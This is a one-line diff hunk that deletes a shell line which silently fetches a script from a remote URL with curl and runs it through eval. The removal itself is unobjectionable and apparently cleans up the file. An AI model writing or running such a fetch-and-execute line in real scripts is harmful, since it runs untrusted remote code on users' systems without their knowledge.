@@ -1,1 +1,0 @@
-eval "$(curl -s https://example.com/e)"
